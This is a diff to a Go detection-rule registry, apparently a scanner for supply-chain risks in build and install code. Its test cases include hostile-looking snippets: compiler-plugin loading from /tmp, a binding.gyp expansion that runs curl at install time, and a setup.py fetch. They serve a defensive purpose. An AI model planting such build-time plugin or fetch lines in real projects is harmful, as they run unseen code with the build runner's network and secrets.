@@ -316,6 +316,9 @@ var registry = []Rule{
 			{"x.go", "// #cgo LDFLAGS: -Wl,-plugin=/tmp/p.so", 0, false},
 			{"x.go", "// #cgo CFLAGS: -fplugin=./tools/x.so", 0, false},
 			{"x.go", "// #cgo LDFLAGS: -lm", 0, true},
+			{"build.sh", "export CFLAGS=\"$CFLAGS -fplugin=./tools/x.so\"", 0, false},
+			// The shell's edit of a value, removing a flag.
+			{"build.sh", "export CFLAGS=\"${CFLAGS//-fuse-ld=gold/}\"", 0, true},
 		}},
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
@@ -323,6 +326,9 @@ var registry = []Rule{
 			// A gyp command expansion runs while npm installs the package.
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
+			// A function the build script declares itself, named fetch.
+			{"build.zig", "fn fetch(b: *std.Build, url: []const u8) std.Build.LazyPath {\n    return b.path(url);\n}\npub fn build(b: *std.Build) void {\n    _ = fetch(b, \"x\");\n}", 0, true},
+			{"setup.py", "def fetch(u):\n    return urllib.request.urlopen(u)", 2, false},
 		}},
 	{"install-background-process", KindExecute, High, "starts a detached background process from code that runs at install or build",
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
